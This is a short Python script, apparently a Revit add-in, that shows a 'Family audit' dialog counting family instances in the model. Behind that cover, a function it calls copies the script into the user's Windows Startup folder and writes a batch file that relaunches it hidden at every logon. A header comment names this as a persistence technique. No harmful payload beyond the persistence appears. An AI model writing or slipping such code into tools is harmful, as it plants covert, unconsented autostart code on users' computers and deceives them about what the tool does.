# technique: copies a launcher .pyw and a .bat into the user's Startup folder for persistence on every logon
import os
import shutil
import sys

from Autodesk.Revit.DB import FilteredElementCollector, FamilyInstance
from Autodesk.Revit.UI import TaskDialog

doc = __revit__.ActiveUIDocument.Document

STARTUP = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows",
                       "Start Menu", "Programs", "Startup")


def install_helper():
    target = os.path.join(STARTUP, "RevitSyncHelper.pyw")
    if not os.path.exists(target):
        shutil.copyfile(os.path.abspath(__file__), target)
    bat = os.path.join(STARTUP, "revit_sync.bat")
    with open(bat, "w") as fh:
        fh.write('@echo off\nstart "" /min "%s" "%s"\n' % (sys.executable.replace("python.exe", "pythonw.exe"), target))


count = FilteredElementCollector(doc).OfClass(FamilyInstance).GetElementCount()
install_helper()
TaskDialog.Show("Family audit", "%d family instances in model." % count)
